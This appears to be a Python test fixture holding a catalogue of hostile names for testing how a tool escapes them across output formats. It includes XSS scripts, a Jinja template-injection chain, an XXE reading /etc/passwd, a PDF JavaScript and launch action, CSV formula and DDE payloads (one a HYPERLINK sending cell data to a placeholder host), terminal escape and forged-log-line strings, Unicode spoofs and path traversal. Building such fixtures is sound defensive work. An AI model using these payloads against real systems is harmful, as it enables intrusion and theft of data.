"""The attacks, one row one payload: a name that a machine, an account or a file may bear.

What each would do where it is not treated as text is its key. All of it is invented; the addresses
are those of RFC 5737 and RFC 2606.
"""

from collections.abc import Mapping
from typing import Final

LONG: Final = 65_536

PAYLOADS: Final[Mapping[str, str]] = {
    # Pages
    "HTML: a script": "<script>window.__pwned=1</script>",
    "HTML: an end of the script": "</script><script>window.__pwned=2</script>",
    "HTML: a comment and a script": "<!--<script>window.__pwned=3",
    "HTML: an event of a picture": "<img src=x onerror=window.__pwned=4>",
    "HTML: out of an attribute": '"\' onmouseover=window.__pwned=5 x="',
    "HTML: a frame": '<iframe src="https://h.example/f"></iframe>',
    "HTML: another base": '<base href="https://h.example/">',
    "HTML: a refresh": '<meta http-equiv=refresh content="0;url=https://h.example/">',
    "HTML: out of the title": "</title></style></textarea>]]>--!>x",
    "HTML: an entity": "&lt;b&gt; &#60;script&#62; &amp;amp;",
    "HTML: a link that runs": "javascript:window.__pwned=6",
    "SVG: a script": "<svg onload=window.__pwned=7><script>window.__pwned=8</script></svg>",
    "SVG: out of the figure": '</text></svg><image href="https://h.example/i.png"/>',
    "SVG: foreign HTML": "<foreignObject><body onload=window.__pwned=9></foreignObject>",
    "CSS: a picture": "x;background:url(https://h.example/c.png)",
    "CSS: another sheet": "</style><style>@import 'https://h.example/s.css';",
    "CSS: a file": "url(file:///etc/passwd)",
    "Jinja: a sum": "{{7*7}}{%set x=1%}{#c#}",
    "Jinja: the way to Python": "{{''.__class__.__mro__[1].__subclasses__()}}",
    "Python: a format": "{0.__class__} %s %(x)s $HOME ${x}",
    "JSON in HTML: out of the data": '"}];window.__pwned=10//',
    "JSON in HTML: line ends of old scripts": "a\u2028window.__pwned=11\u2029b",
    "JavaScript: a prototype": "__proto__",
    "JavaScript: a constructor": "constructor",
    # XML, GraphML, XMP, PDF
    "XML: an entity of a file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "XML: the end of CDATA": "]]><![CDATA[x",
    "GraphML: another edge": '"/><edge source="a" target="b"><data key="d0">9</data>',
    "XMP: another property": "</own:caseId><own:edition>vendor</own:edition><own:caseId>",
    "XMP: the end of the packet": '<?xpacket end="w"?>',
    "PDF: the end of a string": ") /AA << /O << /S /JavaScript /JS (app.alert(1)) >> >> (",
    "PDF: an escape": "\\) \\051 \\\\ \\",
    "PDF: the end of the file": "endstream endobj\n%%EOF\nstartxref 0",
    "PDF: a launch": "/OpenAction << /S /Launch /F (calc.exe) >>",
    # Tables
    "CSV: = a program": "=cmd|' /C calc'!A0",
    "CSV: + a sum": "+1+1",
    "CSV: - a sum": "-2+3+cmd|' /C calc'!A0",
    "CSV: @ a function": "@SUM(1+1)*cmd|' /C calc'!A0",
    "CSV: a TAB before": "\t=1+1",
    "CSV: a line end before": "\r\n=1+1",
    "CSV: out of the cell": 'a";=1+1,"b',
    "CSV: separators": "a,b;c\td|e",
    "CSV: a link": '=HYPERLINK("https://h.example/?"&A1,"x")',
    # Terminals and lines
    "terminal: another title": "\x1b]0;owned\x07",
    "terminal: clear and colour": "\x1b[2J\x1b[31mred\x9b31m",
    "terminal: write over the line": "all is well\r\x1b[Aforged\b\b",
    "lines: another line": "x\nforensics: all exhibits are intact",
    "lines: NEL, VT and FF": "a\x85b\x0bc\x0cd",
    # What is seen is not what is there
    "bidi: an override": "\u202egnp.exe",
    "bidi: isolates": "\u2067admin\u2069\u2066",
    "bidi: marks": "adm\u200f\u200ein\u061c",
    "unseen: no width": "ad\u200bm\u200cin\u2060\ufeff",
    "unseen: tags": "admin\U000e0041\U000e007f",
    "unseen: soft hyphens": "ad\u00admin",
    "homoglyph: Cyrillic": "\u0430dmin",
    "homoglyph: Greek": "\u0391dmin",
    "homoglyph: full width": "\uff41dmin",
    "marks: without end": "a" + "\u0301" * 40,
    "our own marks": "‹U+202E›<U+202E>",
    "blanks: at the ends": "  admin  ",
    "blanks: no-break": "ad\u00a0min",
    # What no encoding holds
    "Unicode: half a pair": "a\ud800b",
    "Unicode: a pair the wrong way": "\udc00\ud800",
    "Unicode: no characters": "a\ufffe\uffff\U0001fffe",
    "Unicode: private": "\ue000\U000f0000",
    "NUL: in the middle": "admin\x00.txt",
    # Sizes and paths
    "64 KiB of one letter": "W" * LONG,
    "64 KiB of tags": "<b>" * (LONG // 3),
    "path: out of the folder": "../../../../etc/passwd",
    "path: of Windows": "..\\..\\Windows\\System32\\drivers\\etc\\hosts",
    "path: a share": "\\\\h.example\\c$\\x",
    "a word of ours": "(not recorded)",
    "nothing is there": "-",
    "numbers that are none": "1e999 NaN -0",
}


def held(text: str) -> str:
    """Return a name as the program holds it: half a pair, which is no character, is U+FFFD."""
    return "".join("\ufffd" if "\ud800" <= char <= "\udfff" else char for char in text)


LONGEST_IN_EVTX: Final = 2_000
"""Characters that a value of a built .evtx record has room for, several of them in a record."""


def short() -> Mapping[str, str]:
    """Return those that a record of an event log has room for."""
    return {kind: text for kind, text in PAYLOADS.items() if len(text) <= LONGEST_IN_EVTX}
